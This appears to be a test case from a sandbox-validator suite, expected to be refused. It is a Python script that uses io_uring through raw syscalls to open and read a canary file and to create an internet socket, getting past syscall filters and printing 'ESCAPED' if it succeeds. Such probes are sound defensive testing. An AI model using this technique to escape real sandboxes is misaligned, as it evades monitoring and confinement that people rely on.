# attack: io_uring opens, reads and connects on orders left in shared memory: no filter of calls sees what it does
# expect: validator
# validator: refused
import ctypes
import os
import struct

CANARY = b"CANARY" + b"_7f3a"
SETUP, ENTER = 425, 426  # The same on every architecture.
OPENAT, READ, SOCKET = 18, 22, 45
OFF_SUBMIT, OFF_COMPLETE, OFF_ENTRIES = 0, 0x8000000, 0x10000000
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = (ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long)


def call(number, *arguments):
    ctypes.set_errno(0)
    answer = libc.syscall(ctypes.c_long(number), *[ctypes.c_long(a) if isinstance(a, int) else a for a in arguments])
    if answer < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return answer


class Ring:
    def __init__(self, flags):
        parameters = ctypes.create_string_buffer(struct.pack("=4I", 0, 16, flags, 0), 120)
        self.fd = call(SETUP, 4, parameters)
        words = struct.unpack_from("=30I", parameters.raw)
        self.submit, self.complete = words[10:20], words[20:30]
        self.rings = libc.mmap(None, 8192, 3, 1, self.fd, OFF_SUBMIT)
        self.done = libc.mmap(None, 8192, 3, 1, self.fd, OFF_COMPLETE)
        self.entries = libc.mmap(None, 4096, 3, 1, self.fd, OFF_ENTRIES)

    def order(self, operation, fd, address, length, offset, flags):
        """One order, waited for; returns its result."""
        tail_at = self.rings + self.submit[1]
        tail = ctypes.c_uint.from_address(tail_at).value
        slot = tail & ctypes.c_uint.from_address(self.rings + self.submit[2]).value
        entry = struct.pack("=BBHiQQIIQ", operation, 0, 0, fd, offset, address, length, flags, 1).ljust(64, b"\0")
        ctypes.memmove(self.entries + 64 * slot, entry, 64)
        ctypes.c_uint.from_address(self.rings + self.submit[6] + 4 * slot).value = slot
        ctypes.c_uint.from_address(tail_at).value = tail + 1
        call(ENTER, self.fd, 1, 1, 1, 0, 0)
        head_at = self.done + self.complete[0]
        head = ctypes.c_uint.from_address(head_at).value
        place = head & ctypes.c_uint.from_address(self.done + self.complete[2]).value
        _, result, _ = struct.unpack("=QiI", ctypes.string_at(self.done + self.complete[5] + 16 * place, 16))
        ctypes.c_uint.from_address(head_at).value = head + 1
        return result


path = ctypes.create_string_buffer(b"@CANARY_FILE@")
buffer = ctypes.create_string_buffer(200)
for flags in (0, 1 << 3):  # Plain, and with a size of its own for the answers' ring.
    try:
        ring = Ring(flags)
        print("a ring was made, flags", flags)
        fd = ring.order(OPENAT, -100, ctypes.addressof(path), 0, 0, os.O_RDONLY)
        print("open gave", fd)
        count = ring.order(READ, fd, ctypes.addressof(buffer), 200, 0, 0)
        if count > 0 and CANARY in buffer.raw:
            print(f"ESCAPED: io_uring read {buffer.raw[:count]!r}", flush=True)
        made = ring.order(SOCKET, 2, 0, 0, 1, 0)
        if made >= 0:
            print(f"ESCAPED: io_uring made an internet socket: {made}", flush=True)
    except OSError as error:
        print("flags", flags, error)
